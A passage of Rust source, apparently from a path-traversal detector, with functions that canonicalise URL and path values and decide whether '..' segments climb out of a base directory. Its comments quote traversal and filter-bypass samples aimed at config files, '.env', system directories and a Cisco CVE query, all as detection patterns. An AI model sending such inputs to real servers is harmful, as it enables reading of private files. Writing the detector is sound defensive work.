            let name_bytes = name[..end].iter().all(|&c| windows_name_byte(c));
            if name_bytes {
                out.extend_from_slice(&name[..end]);
                changed = true;
            } else {
                out.extend_from_slice(seg);
            }
        } else {
            out.extend_from_slice(seg);
        }
        if directory {
            out.push(b'/');
        }
    }
    // Only ASCII bytes were dropped: the text is still UTF-8.
    changed.then(|| String::from_utf8(out).ok()).flatten()
}

/// Whether some directory of `b` may be renamed by [`windows_names`]: a `/` after `::$data`
/// (any case), or a `/` after a `.` or a blank that ends a directory whose name, trimmed of
/// its trailing dots and blanks, is all name bytes ([`renamed_name_before`]). Without one,
/// [`windows_names`] renames nothing: it trims a directory only when the text before the
/// directory's closing `/` ends in one of those and the trimmed text is such a name. One
/// vectorised search visits the slashes (a value without one is not asked); each looks at
/// the byte before it, and one after a dot or a blank reads back only to the first byte no
/// name holds: a self-closing tag (`<br />`) or a word before a slash in prose (`and / or`)
/// stops at once and leaves the value uncopied. No cap on the slashes: past
/// [`MAX_SEGMENTS`] directories nothing is renamed, so a `/` there only lets the rewrite
/// run and answer `None`.
fn may_dress_directory(b: &[u8]) -> bool {
    // The searcher for slashes set up once, not at each slash (see `sensitive::Dots::of`).
    #[cfg(target_arch = "x86_64")]
    {
        use memchr::arch::x86_64::avx2::memchr::One;
        static ONE: std::sync::OnceLock<Option<One>> = std::sync::OnceLock::new();
        if let Some(one) = ONE.get_or_init(|| One::new(b'/')) {
            return dresses_at(b, one.iter(b));
        }
    }
    dresses_at(b, memchr::memchr_iter(b'/', b))
}

/// [`may_dress_directory`] given the offsets of the slashes in `b`, in order.
fn dresses_at(b: &[u8], mut slashes: impl Iterator<Item = usize>) -> bool {
    slashes.any(|slash| match slash.checked_sub(1).map(|i| b[i]) {
        Some(b'.' | b' ') => renamed_name_before(b, slash),
        _ => slash >= 7 && b[slash - 7..slash].eq_ignore_ascii_case(b"::$data"),
    })
}

/// Whether the segment of `b` that the `/` at `slash` closes is one [`windows_names`] may
/// trim: it ends in dots or blanks, and the text before them is a whole segment (from the
/// value's start or a `/`) of the bytes it keeps a name of, not empty. A segment of only
/// dots and blanks is the walk's; a blank or another byte inside the name makes it a
/// sentence's or code's, which [`windows_names`] copies as it is.
fn renamed_name_before(b: &[u8], slash: usize) -> bool {
    let mut end = slash;
    while end > 0 && matches!(b[end - 1], b'.' | b' ') {
        end -= 1;
    }
    let mut start = end;
    while start > 0 && windows_name_byte(b[start - 1]) {
        start -= 1;
    }
    start < end && (start == 0 || b[start - 1] == b'/')
}

/// A byte of a directory name [`windows_names`] trims (`.` included: a name may hold dots).
fn windows_name_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'~' | b'$' | b'+')
}

/// The value as a lenient file API would resolve it: decoded, ASCII lower-cased (see
/// [`fold_case`]), `\` as `/`, and bytes that such APIs stop at or skip (NUL, undecodable
/// escapes, U+FFFD, controls) as `/`, except NUL between dots (`.%00.`), which they drop.
pub fn canonical(value: &str) -> String {
    // a decoded (owned) value is lower-cased in place, without another copy
    canonical_lower(fold_case(lenient_decode(value).into_owned()))
}

/// `s` with ASCII letters lower-cased. Every test on the canonical form ignores ASCII case
/// only: entries, schemes and separators are ASCII, and the prose tests ask whether a
/// character is a letter, a space or punctuation, which its case does not change. So other
/// letters keep their case (the Unicode case tables were most of the cost on Cyrillic, Greek
/// or accented text), except the two whose lower case is ASCII (KELVIN SIGN is `k`, `İ` is
/// `i` and a combining dot), with which a sensitive name could be spelled.
fn fold_case(mut s: String) -> String {
    s.make_ascii_lowercase();
    if !s.is_ascii() && s.contains(LOWER_TO_ASCII) {
        s = s.replace('\u{130}', "i\u{307}").replace('\u{212a}', "k");
    }
    s
}

/// The characters outside ASCII whose lower case holds an ASCII letter (checked exhaustively
/// by a unit test).
const LOWER_TO_ASCII: [char; 2] = ['\u{130}', '\u{212a}'];

/// The plain definition of [`canonical`] after decoding, character by character; the
/// bulk-copying [`canonical_lower`] must agree with it.
#[cfg(test)]
fn canonical_chars(decoded: &str) -> String {
    let lower = decoded.to_lowercase();
    let b = lower.as_bytes();
    let mut out = String::with_capacity(lower.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c >= 0x80 {
            let ch = lower[i..].chars().next().unwrap_or('\u{fffd}');
            match ch {
                // Invalid bytes and private-use code points: lenient APIs (best-fit code
                // pages) map them to separators; no legitimate path uses them.
                '\u{fffd}' | '\u{e000}'..='\u{f8ff}' => out.push('/'),
                ch if ch.is_control() => out.push('/'),
                ch => out.push(ch),
            }
            i += ch.len_utf8();
            continue;
        }
        // `0x2e` / `0x2f` / `0x5c` spelled out, as traversal fuzzers emit them.
        if c == b'0' && b.get(i + 1) == Some(&b'x') {
            let lit = match (b.get(i + 2), b.get(i + 3)) {
                (Some(b'2'), Some(b'e')) => Some('.'),
                (Some(b'2'), Some(b'f')) | (Some(b'5'), Some(b'c')) => Some('/'),
                _ => None,
            };
            if let Some(l) = lit {
                out.push(l);
                i += 4;
                continue;
            }
        }
        match c {
            b'\\' => out.push('/'),
            0 => {
                let between_dots = out.ends_with('.') && b.get(i + 1) == Some(&b'.');
                if !between_dots {
                    out.push('/');
                }
            }
            // An escape left undecoded after every layer: lenient decoders swallowed it.
            b'%' if b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
                && b.get(i + 2).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                out.push('/');
                i += 3;
                continue;
            }
            b'\n' | b'\t' => out.push(char::from(c)),
            c if c.is_ascii_control() => out.push('/'),
            c => out.push(char::from(c)),
        }
        i += 1;
    }
    out
}

/// Bytes [`canonical_lower`] copies as they are: ASCII other than `0` (which may start
/// `0x2e`), `\\`, `%` and control characters except `\n` and `\t`; and the UTF-8 bytes of
/// characters it keeps. Only the leads `0xC2` (C1 controls, U+0080–U+009F), `0xEE` and
/// `0xEF` (private use U+E000–U+F8FF, U+FFFD) can start a character it rewrites; every
/// other lead and every continuation byte belongs to a character copied unchanged, so a
/// run never ends inside a character.
static PLAIN_BYTE: [bool; 256] = {
    let mut t = [false; 256];
    let mut c = 0x20;
    while c < 0x7f {
        t[c] = true;
        c += 1;
    }
    let mut c = 0x80;
    while c < 0x100 {
        t[c] = !matches!(c, 0xc2 | 0xee | 0xef);
        c += 1;
    }
    t[b'\n' as usize] = true;
    t[b'\t' as usize] = true;
    t[b'0' as usize] = false;
    t[b'\\' as usize] = false;
    t[b'%' as usize] = false;
    t
};

/// The canonical mapping of a decoded, lower-cased value, with runs of plain bytes copied in
/// bulk instead of pushed one character at a time. A value of plain bytes only (most decoded
/// paths) is its own mapping and is returned as it is, without a copy.
fn canonical_lower(lower: String) -> String {
    let b = lower.as_bytes();
    let Some(first) = b.iter().position(|&c| !PLAIN_BYTE[usize::from(c)]) else {
        return lower;
    };
    let mut out = String::with_capacity(b.len());
    out.push_str(&lower[..first]);
    let mut i = first;
    while i < b.len() {
        let run = b[i..]
            .iter()
            .position(|&c| !PLAIN_BYTE[usize::from(c)])
            .unwrap_or(b.len() - i);
        // A run of ASCII bytes ends on a character boundary.
        out.push_str(&lower[i..i + run]);
        i += run;
        let Some(&c) = b.get(i) else { break };
        // A character led by 0xC2, 0xEE or 0xEF (see [`PLAIN_BYTE`]).
        if c >= 0x80 {
            let ch = lower[i..].chars().next().unwrap_or('\u{fffd}');
            match ch {
                // Invalid bytes and private-use code points: lenient APIs (best-fit code
                // pages) map them to separators; no legitimate path uses them.
                '\u{fffd}' | '\u{e000}'..='\u{f8ff}' => out.push('/'),
                ch if ch.is_control() => out.push('/'),
                ch => out.push(ch),
            }
            i += ch.len_utf8();
            continue;
        }
        // `0x2e` / `0x2f` / `0x5c` spelled out, as traversal fuzzers emit them.
        if c == b'0' && b.get(i + 1) == Some(&b'x') {
            let lit = match (b.get(i + 2), b.get(i + 3)) {
                (Some(b'2'), Some(b'e')) => Some('.'),
                (Some(b'2'), Some(b'f')) | (Some(b'5'), Some(b'c')) => Some('/'),
                _ => None,
            };
            if let Some(l) = lit {
                out.push(l);
                i += 4;
                continue;
            }
        }
        match c {
            b'\\' => out.push('/'),
            0 => {
                let between_dots = out.ends_with('.') && b.get(i + 1) == Some(&b'.');
                if !between_dots {
                    out.push('/');
                }
            }
            // An escape left undecoded after every layer: lenient decoders swallowed it.
            b'%' if b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
                && b.get(i + 2).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                out.push('/');
                i += 3;
                continue;
            }
            c if c.is_ascii_control() => out.push('/'),
            c => out.push(char::from(c)),
        }
        i += 1;
    }
    out
}

/// Whether walking the path's segments goes above its starting directory (`adjacent`:
/// whether `canon` has `..`; `typed`: whether the value was written without escapes, so
/// that its dots and separators are the text a person typed or pasted).
fn climbs(canon: &str, ctx: Context, adjacent: bool, typed: bool) -> bool {
    // Only a dot segment (two or more dots) can climb: without `..` there is none.
    if !adjacent {
        return false;
    }
    // Walked as bytes: `/`, `.`, `;`, space and tab are ASCII, so splitting and trimming on
    // them keeps the other characters whole.
    let b = canon.as_bytes();
    if memchr::memchr(b'/', b).is_none() {
        // A lone `..` is only a climb where the value *is* one path segment, or a whole
        // parameter (see [`lone_climb`]).
        // (A segment is judged as canonicalised, a parameter trimmed of blanks.)
        let b = if ctx == Context::PathSegment {
            b
        } else {
            trim_blanks(b)
        };
        return lone_climb(b, ctx, typed);
    }
    let mut depth: i32 = 0;
    // Whether the segment before is a directory name: no blank, quote, bracket or other
    // byte of prose or code around a path (`"cd ../..`, `'a', '../b'`).
    let mut after_directory = false;
    let mut alias_step = false;
    // The directory a `..` just left (`images` in `/images/../config.php`), while the
    // segment after it is not yet read.
    let mut left: Option<&[u8]> = None;
    // Whether that `..` was plain, not a path-parameter step (`..;`) made for a server.
    let mut left_plainly = false;
    let mut previous: &[u8] = b"";
    // Offset of the segment after this one.
    let mut next_at = 0;
    // Whether no named segment came yet in the path being walked: a `..` there climbs
    // from the path's own start.
    let mut at_start = true;
    // Whether the segment before was a dot segment.
    let mut previous_dots = false;
    // `/static../settings.py` reaches nginx's alias only as a URL path, from the root; `ok../done`,
    // `v1../v2`, `see../notes` are a word trailing off in two dots, and a relative name
    // `ok..` is a plain name to a file API (on Windows, `ok` once its trailing dots are
    // trimmed): it climbs nowhere.
    let absolute = b.first() == Some(&b'/');
    for raw in b.split(|&c| c == b'/').take(MAX_SEGMENTS) {
        let raw_at = next_at;
        next_at += raw.len() + 1;
        let mut seg = trim_blanks(raw);
        if seg.is_empty() || seg == b"." {
            continue;
        }
        // `?inc=../secret.php`, `page=..%2fconfig`: a query parameter's value starts a path
        // of its own, which the application joins to its base; the URL before it says
        // nothing about where that path starts.
        if let Some(value) = parameter_dot_value(seg) {
            // `?q=../`: a search for the characters, with nothing to read after them;
            // `?return=../cart`, `next=../../account`: a relative link to a page of the
            // site, which a redirect follows. Read from a parameter, a climb names a file.
            let rest = &b[next_at.min(b.len())..];
            // `?type=mst&textdomain=/+cscoe+/portal_inc.lua&lang=../` (CVE-2020-3452): a
            // parameter that only climbs, beside one that names a file, is a directory the
            // application joins with that file's path.
            if value_only_climbs(rest) && joined_file_parameter(b) {
                return true;
            }
            if rest_is_empty(rest) || !names_a_file(rest) {
                // The link's own steps up are walked where they cannot climb.
                depth = MAX_SEGMENTS as i32;
                left = None;
                alias_step = false;
                after_directory = false;
                previous_dots = false;
                continue;
            }
            seg = value;
            depth = 0;
            left = None;
            alias_step = false;
            after_directory = false;
            at_start = true;
        }
        let rest = &b[next_at.min(b.len())..];
        if is_dot_segment(seg) && !ellipsis(seg, rest, previous_dots) {
            previous_dots = true;
            // `../images/logo.png`, `../css/site.css`: one step up from the start to a
            // static asset is how pages and Markdown link their images, stylesheets and
            // fonts (a relative href); reading such a file discloses nothing.
            if at_start && depth == 0 && seg == b".." && static_asset_path(rest) {
                return false;
            }
            // `../lib`, `../api/v2/users`, `../../assets/app.js`: a value that opens with one
            // or two steps up to plain names ending in a directory, route or module (no
            // extension) or a page or asset is a relative link or import path, as build
            // configurations, Markdown and CMS fields hold them; it reads no file a site
            // keeps private. Written as typed only: an escaped climb was made for a decoder.
            if typed
                && raw_at == 0
                && raw == b".."
                && ((relative_link(rest) && !system_directory(rest))
                    || prose_after(rest)
                    || link_then_prose(rest))
            {
                return false;
            }
            // `/images/../config.php`, `files/..;/admin`: a `..` right after a directory the
            // application chose walks back out of it to a sibling. No path an application
            // builds or a browser sends keeps such a pair (both resolve it first); only
            // exactly two dots count here, as `src/.../main.rs` is an ellipsis in prose.
            // Going back into the same directory (`lib/../lib/index.js`) leaves nothing.
            // A second step up after a left directory, or a step after an alias step.
            if left.is_some() || alias_step {
                return true;
            }
            if after_directory && (raw == b".." || raw.starts_with(b"..;")) {
                left = Some(previous);
                left_plainly = raw == b"..";
            }
            after_directory = false;
            depth -= 1;
            if depth < 0 {
                return true;
            }
        } else {
            // `/static../settings.py`: nginx's `location /static { alias /app/static/; }`
            // maps this to `/app/static/../settings.py`. A directory name of a URL path
            // ending in exactly two dots steps up to what follows when that is a file
            // (`settings.py`, `.env`) or another step up; to a plain name (`/docs../api`)
            // it is a word trailing off.
            // `docs/../README.md`: back out of a directory to a page or asset beside it is
            // how a link is written relative to a document; what it reads the site serves.
            // `/products/shoes/../bags`, `x/../y`, `a/b/../c`: a path that steps back to a
            // page, route or asset beside the directory stays at or below where it started,
            // joined to a base or not; what a prefix check on the directory lets through is
            // judged by the target, and the application's settings, sources, dot-files and
            // data (`uploads/../config.php`, `static/../app.py`, `static/../.env`) stay
            // attacks.
            if (alias_step && memchr::memchr(b'.', raw).is_some())
                || left.is_some_and(|d| {
                    let target = attribute_value(&b[raw_at..]);
                    d != raw
                        && !(typed
                            && left_plainly
                            && (asset_target(target)
                                || document_target(target)
                                || link_target(link_path(target))
                                // `The page at /admin/../login gives 404`: a link
                                // back to a page beside it, named in a sentence.
                                || (link_then_prose(&b[raw_at..])
                                    && words_follow(&b[raw_at..]))))
                })
            {
                return true;
            }
            // (an alias step into a directory goes on to what the directory holds:
            // `/media../app/config.yml` reads `/app/media/../app/config.yml`)
            let carried = alias_step;
            previous_dots = false;
            at_start = false;
            left = None;
            previous = raw;
            after_directory = raw.iter().all(|&c| !DIRECTORY_STOP[usize::from(c)]);
            alias_step = after_directory
                && ((carried && !raw.is_empty())
                    || (absolute
                        && raw.len() > 2
                        && raw.ends_with(b"..")
                        && raw[raw.len() - 3] != b'.'));
            depth += 1;
        }
    }
    // `uploads/..`: the walk ends above the directory it named. `ok.../..`, `ok../..`: a
    // word that trails off in dots is prose, no directory an application named.
    left.is_some_and(|d| !(typed && d.ends_with(b"..")))
}

/// Longest value [`relative_alias_step`] reads, and most `../` it examines.
const MAX_ALIAS_PATH: usize = 1024;
const MAX_ALIAS_STEPS: usize = 16;

/// nginx's alias off-by-slash (`location /assets { alias /app/static/; }`) in a path written
/// without its leading `/` (`assets../settings.py`, `static..%2f.env`, `img..\..\app.py`):
/// a proxy, a fetch-by-path parameter or a crawler puts it after the site's root, and nginx
/// maps `/assets../x` to `/app/static/../x`. [`climbs`] judges the rooted spelling; this is
/// the one path (no blank or other byte of prose) with a location word (letters, digits,
/// `_`, `-`) glued to exactly two dots, then a separator and a file (a name with an
/// extension, a dot-file) or a further step up to a name. A word trailing off
/// (`ok../done`, `see../notes`, `v1../v2`), a range (`v1..v2`, `a..b`), a doubled dot in a
/// name (`file..txt`) and a dotted word (`e.g../x.txt`) are none.
fn relative_alias_step(b: &[u8]) -> bool {
    if b.first() == Some(&b'/')
        || b.len() > MAX_ALIAS_PATH
        || b.iter().any(|&c| DIRECTORY_STOP[usize::from(c)])
    {
        return false;
    }
    memchr::memmem::find_iter(b, b"../")
        .take(MAX_ALIAS_STEPS)
        .any(|i| {
            let word = &b[b[..i].iter().rposition(|&c| c == b'/').map_or(0, |p| p + 1)..i];
            !word.is_empty()
                && word
                    .iter()
                    .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))
                && alias_target(&b[i + 3..])
        })
}

/// Whether `rest` (after a location word's `../`) names a file: its first named segment has
/// a dot before a letter or digit (`settings.py`, `.env`, `.git/config`), or is `..` with a
/// name after it (`../app.py`).
fn alias_target(rest: &[u8]) -> bool {
    let mut segments = rest
        .split(|&c| c == b'/')
        .filter(|s| !s.is_empty() && *s != b".");
    match segments.next() {
        Some(b"..") => segments.next().is_some_and(|s| s != b".."),
        Some(seg) => seg
            .windows(2)
            .any(|w| w[0] == b'.' && w[1].is_ascii_alphanumeric()),
        None => false,
    }
}

/// Whether `rest` (what follows a value's opening `../`) is one directory of a system's
/// root (`etc`, `proc`, `windows`), with at most a trailing `/` and at most one more `../`
/// before it: `dir=../etc` asks a file browser or listing endpoint for the system's
/// settings, which no project or site layout links by that bare name (`../lib`, `../src`).
fn system_directory(rest: &[u8]) -> bool {
    let rest = rest.strip_prefix(b"../").unwrap_or(rest);
    let name = rest.strip_suffix(b"/").unwrap_or(rest);
    [&b"etc"[..], b"proc", b"root", b"boot", b"windows", b"winnt"]
        .iter()
        .any(|d| name.eq_ignore_ascii_case(d))
}

/// Whether `rest` (what follows a value's opening `../`) is running text, not a path: a
/// blank, then words with no further separator or dot segment (`../ in path meaning`, a
/// search for what the characters mean). A file API would look for a directory whose
/// name opens with a blank; what is typed after the blank names nothing to read.
fn prose_after(rest: &[u8]) -> bool {
    rest.first().is_some_and(|&c| c == b' ')
        && rest.len() <= 256
        && trim_blanks(rest)
            .first()
            .is_some_and(u8::is_ascii_alphanumeric)
        && memchr::memchr(b'/', rest).is_none()
        && memchr::memmem::find(rest, b"..").is_none()
}

/// Whether `rest` (what follows a value's opening `../`) is a relative link named in a
/// sentence: plain names up to a blank ([`link_target`], no further step up), then words
/// ([`prose_after`]): `../relative/path in webpack config`, `../lib is the shared code`.
/// A file API would look for a last directory whose name holds the whole sentence; a
/// person wrote where a link points.
fn link_then_prose(rest: &[u8]) -> bool {
    let Some(blank) = memchr::memchr(b' ', rest) else {
        return false;
    };
    let (path, words) = rest.split_at(blank);
    !path.starts_with(b"../") && link_target(path) && prose_after(words)
}

/// `rest` up to a quote that closes an attribute's value (`faq.html` of `faq.html">FAQ</a>`:
/// the quote is followed by `>`, `/`, a blank or nothing), or all of it. In markup
/// (`<a href="/docs/../faq.html">`, `<img src="/uploads/../img/x.png">`) the path an
/// application or browser reads ends there, so its target is judged as the same path
/// written alone; the target tests are as strict either way, and a quote inside a path
/// only makes the name a file API reads longer.
fn attribute_value(rest: &[u8]) -> &[u8] {
    match memchr::memchr2(b'"', b'\'', rest) {
        Some(q)
            if rest
                .get(q + 1)
                .is_none_or(|&c| matches!(c, b'>' | b'/' | b' ' | b'\t' | b'\n')) =>
        {
            &rest[..q]
        }
        _ => rest,
    }
}

/// Whether the text after the first blank of `rest` is plain words that open with a letter
/// (`login gives 404`): a sentence, not a number, markup or code after the path.
fn words_follow(rest: &[u8]) -> bool {
    memchr::memchr(b' ', rest).is_some_and(|blank| {
        let words = trim_blanks(&rest[blank..]);
        words.first().is_some_and(u8::is_ascii_alphabetic)
            && words
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b',' | b'?' | b'!'))
    })
}

/// Whether `path` (the target of a walk that stayed inside its base) is one plain text
/// document beside the directory left (`y.txt`, `notes.txt`): a file a site serves as it
/// is, as its pages and assets. A list of passwords kept as a document (`passwords.txt`)
/// is a secret, not a page.
fn document_target(path: &[u8]) -> bool {
    let path = link_path(path);
    memchr::memchr(b'/', path).is_none()
        && !sensitive::secret_name(&path.to_ascii_lowercase())
        && memchr::memrchr(b'.', path).is_some_and(|dot| {
            // The name before the extension is as plain as a link's (no dot-file, none
            // of the application's settings).
            dot > 0 && path[dot + 1..].eq_ignore_ascii_case(b"txt") && link_target(&path[..dot])
        })
}

/// Whether the path `rest` (what follows a parameter's first `..`, up to the end of its
/// value: `&`, `#`, a blank) reads a file rather than links a page: it climbs three or
/// more levels in all (no page links so far up), a segment is a file name whose
/// extension is not a static asset's (`secret.php`, `password.properties` before a cut
/// `%00en`), or a segment names the application's settings ([`application_settings`]).
fn names_a_file(rest: &[u8]) -> bool {
    let end = rest
        .iter()
        .position(|&c| matches!(c, b'&' | b'#' | b'?' | b' ' | b'\t' | b'\n' | b'"' | b'\''))
        .unwrap_or(rest.len());
    let segments = || {
        rest[..end]
            .split(|&c| c == b'/')
            .take(MAX_SEGMENTS)
            .map(trim_blanks)
            .filter(|s| !s.is_empty() && *s != b".")
    };
    if segments().take_while(|s| is_dot_segment(s)).count() >= 2 {
        return true;
    }
    segments().any(|seg| {
        // `?page=../config`: the application's settings, with the extension it appends.
        application_settings(seg)
            || memchr::memrchr(b'.', seg).is_some_and(|dot| {
                let ext = &seg[dot + 1..];
                dot > 0
                    && ext.first().is_some_and(u8::is_ascii_alphanumeric)
                    && !STATIC_ASSET_EXTENSIONS
                        .iter()
                        .any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
            })
    })
}

/// Most `;` [`parameter_dot_segment`] looks at.
const MAX_PATH_PARAMETERS: usize = 16;

/// A path segment that is `.` or empty once its path parameters are cut (`/.;/admin`,
/// `/;x=1/admin`, `/.;jsessionid=0/manager`): Tomcat and Spring strip `;…` from each
/// segment and then collapse the `.` or empty segment, so the servlet serves `/admin` while
/// a filter or proxy rule in front (Shiro, an nginx `location /admin`) matched a path that
/// was not `/admin`. A person's path never has such a segment: `;jsessionid=…` follows a
/// name (`/shop;jsessionid=…/cart`).
fn parameter_dot_segment(canon: &str) -> bool {
    let b = canon.as_bytes();
    memchr::memchr_iter(b';', b)
        .take(MAX_PATH_PARAMETERS)
        .any(|semi| {
            let start = if semi >= 1 && b[semi - 1] == b'/' {
                semi - 1
            } else if semi >= 2 && b[semi - 1] == b'.' && b[semi - 2] == b'/' {
                semi - 2
            } else {
                return false;
            };
            // The `/` opens a path (the value's start or a name before it), and the
            // segment's parameters run without a blank to the next `/` and a name.
            let path_before = start == 0
                || b[start - 1].is_ascii_alphanumeric()
                || matches!(b[start - 1], b'_' | b'-' | b'.' | b'+');
            let after = &b[semi..];
            let Some(slash) = after.iter().take(256).position(|&c| c == b'/') else {
                return false;
            };
            // An empty segment's parameters are empty or `name=value` (`FBCR/;FBID/phone`
            // in a user agent lists fields).
            let params = &after[1..slash];
            let dotted = start + 2 == semi;
            path_before
                && (dotted || params.is_empty() || memchr::memchr(b'=', params).is_some())
                && !params.iter().any(|c| c.is_ascii_whitespace())
                && after
                    .get(slash + 1)
                    .is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))
        })
}

/// The value of the query parameter `seg` ends with ([`parameter_value`]) when it is a dot
/// segment ([`is_dot_segment`]). Such a value opens with a dot, right after the segment's
/// last `=` or after the quote of a header parameter: that byte is looked at first, so a
/// segment of markup or prose (`a href="x">text<`) is not parsed for a parameter's name.
fn parameter_dot_value(seg: &[u8]) -> Option<&[u8]> {
    let eq = memchr::memrchr(b'=', seg)?;
    if !matches!(seg.get(eq + 1), Some(b'.' | b'"' | b'\'')) {
        return None;
    }
    parameter_value(seg).filter(|v| is_dot_segment(v))
}

/// Whether `rest` (what follows a parameter's first `..`) ends that parameter's value with
/// nothing but more steps up: `/`, `..`, up to the next parameter or the end.
fn value_only_climbs(rest: &[u8]) -> bool {
    let end = rest
        .iter()
        .position(|&c| matches!(c, b'&' | b'#' | b' ' | b'\t' | b'\n' | b'"' | b'\''))
        .unwrap_or(rest.len());
    rest[..end].iter().all(|&c| matches!(c, b'/' | b'.'))
}

/// Most parameters [`joined_file_parameter`] reads.
const MAX_JOINED_PARAMETERS: usize = 32;

/// Whether a parameter of the query string `b` holds a path to a file (a `/`, then a last
/// name whose extension is not a static asset's: `/+cscoe+/portal_inc.lua`,
/// `templates/x.php`), which an application may join to another parameter's directory.
fn joined_file_parameter(b: &[u8]) -> bool {
    memchr::memchr_iter(b'=', b)
        .take(MAX_JOINED_PARAMETERS)
        .any(|eq| {
            let v = &b[eq + 1..];
            let v = &v[..v
                .iter()
                .position(|&c| matches!(c, b'&' | b'#' | b' ' | b'\t' | b'\n' | b'"' | b'\''))
                .unwrap_or(v.len())];
            // A URL in a parameter is a link, not a path joined to a directory.
            let Some(slash) =
                memchr::memrchr(b'/', v).filter(|_| memchr::memmem::find(v, b"://").is_none())
            else {
                return false;
            };
            let last = &v[slash + 1..];
            memchr::memrchr(b'.', last).is_some_and(|dot| {
                let ext = &last[dot + 1..];
                dot > 0
                    && !ext.is_empty()
                    && ext.iter().all(u8::is_ascii_alphanumeric)
                    && !STATIC_ASSET_EXTENSIONS
                        .iter()
                        .any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
            })
        })
}

/// Whether `rest` (the text after a segment) holds no further segment: only separators
/// and blanks.
fn rest_is_empty(rest: &[u8]) -> bool {
    rest.iter().all(|&c| matches!(c, b'/' | b' ' | b'\t'))
}

/// Whether a dot segment (`seg`) is an ellipsis rather than a step up: `.../Downloads/file.pdf`
/// elides the start of a path in prose, three dots and a name after them. A
/// `../`-stripping filter turns `....//` into `../`, and fuzzers repeat `.../.../` or end
/// a value with `/.../`: such a segment steps up (four dots or more, a doubled separator
/// after it, a dot segment next to it, nothing named after it).
fn ellipsis(seg: &[u8], rest: &[u8], previous_dots: bool) -> bool {
    if seg != b"..." || previous_dots || rest.first() == Some(&b'/') {
        return false;
    }
    let next = rest
        .split(|&c| c == b'/')
        .map(trim_blanks)
        .find(|s| !s.is_empty() && *s != b".");
    next.is_some_and(|n| !is_dot_segment(n))
}

/// The part of an `http(s)` URL whose dot segments may climb: a browser or HTTP client
/// resolves `..` and `.` in the URL's path before sending it (RFC 3986 `remove_dot_segments`,
/// which stops at the host's root), so `https://example.com/a/b/../c/index.html` names
/// `/a/c/index.html` and never leaves the site. Only its query and fragment are left as
/// written. Dot segments a client does not resolve (`..;`, `...`) keep the whole URL
/// walked, and so does any other value.
fn url_query(canon: &str) -> &str {
    let t = canon.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let b = t.as_bytes();
    let rest = if b.len() > 7 && b[..7].eq_ignore_ascii_case(b"http://") {
        &t[7..]
    } else if b.len() > 8 && b[..8].eq_ignore_ascii_case(b"https://") {
        &t[8..]
    } else {
        return canon;
    };
    let end = rest.find(['?', '#']).unwrap_or(rest.len());
    let path = &rest[..end];
    let resolved = path
        .split('/')
        .take(MAX_SEGMENTS)
        .all(|seg| seg == ".." || !seg.as_bytes().windows(2).any(|w| w == b".."))
        && !path.contains(char::is_whitespace);
    if resolved {
        &rest[end..]
    } else {
        canon
    }
}

/// The value of a query parameter that `seg` ends with (`..` in `index.php?page=..`,
/// `f=..`): the text after its last `=`, where a parameter's name (letters, digits, `_`,
/// `-`, `.`, `[`, `]`) comes before the `=` and opens the segment or follows `?`, `&` or
/// `;`.
fn parameter_value(seg: &[u8]) -> Option<&[u8]> {
    let eq = memchr::memrchr(b'=', seg)?;
    let head = &seg[..eq];
    let sep = head.iter().rposition(|&c| matches!(c, b'?' | b'&' | b';'));
    let name_at = sep.map_or(0, |i| i + 1);
    let mut name = &head[name_at..];
    let mut value = &seg[eq + 1..];
    // A header's parameter (`form-data; name="file"; filename="../x.php"`,
    // `attachment; filename='…'`): blanks after the `;` and a quote around the value are its
    // syntax; the server unquotes and decodes the name and writes the file under it.
    if sep.is_some_and(|i| head[i] == b';') {
        name = trim_blanks(name);
        if let Some((&q, unquoted)) = value.split_first() {
            if matches!(q, b'"' | b'\'') {
                value = unquoted;
            }
        }
    }
    let is_name = !name.is_empty()
        && name
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'[' | b']'));
    is_name.then_some(value)
}

/// Most segments of a path [`static_asset_path`] reads.
const MAX_ASSET_SEGMENTS: usize = 16;

/// Whether `rest` (what follows a leading `../`) is a plain relative path to a static web
/// asset: name segments only (no dot segment, blank, query or other syntax), the last one
/// an image, stylesheet, font, media file or page (`images/logo.png`, `css/site.css`).
fn static_asset_path(rest: &[u8]) -> bool {
    if rest.is_empty() || rest.len() > 256 {
        return false;
    }
    let mut last: &[u8] = b"";
    for (n, seg) in rest.split(|&c| c == b'/').enumerate() {
        if n >= MAX_ASSET_SEGMENTS
            || seg.is_empty()
            || seg[0] == b'.'
            || !seg.iter().all(|&c| {
                c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'@' | b'+')
            })
        {
            return false;
        }
        last = seg;
    }
    let Some(dot) = memchr::memrchr(b'.', last) else {
        return false;
    };
    let ext = &last[dot + 1..];
    STATIC_ASSET_EXTENSIONS
        .iter()
        .any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
}

/// Whether `rest` (what follows a value's opening `../`) is the rest of a relative link or
/// import path: at most one more `../`, then [`link_target`]. Deeper climbs leave any
/// project or site layout and are read as reaching for the system.
fn relative_link(rest: &[u8]) -> bool {
    // `..//lib`: every file API and URL resolver reads a doubled separator as one.
    let rest = &rest[rest.iter().take_while(|&&c| c == b'/').count()..];
    link_target(link_path(rest.strip_prefix(b"../").unwrap_or(rest)))
}

/// Whether `seg` is a name that opens with two dots and goes on with a letter or digit
/// (`..Secret1`, `..old`): no dot segment (no API steps up through it) and no dot-file a
/// tool keeps its secrets in, but how a password or a list's label may start.
fn dotted_name(seg: &[u8]) -> bool {
    seg.len() > 2 && seg.starts_with(b"..") && seg[2].is_ascii_alphanumeric()
}

/// The file a link names: `path` without its fragment (`CHANGELOG.md#v2-0-0`), a place in
/// the page that a browser keeps to itself, when that fragment is one plain anchor name
/// (letters, digits, `-`, `_`, `.`; no `/`, blank or dot segment that could be a path of
/// its own); otherwise `path` as it is, for [`link_target`] to refuse. A query (`?x=1`)
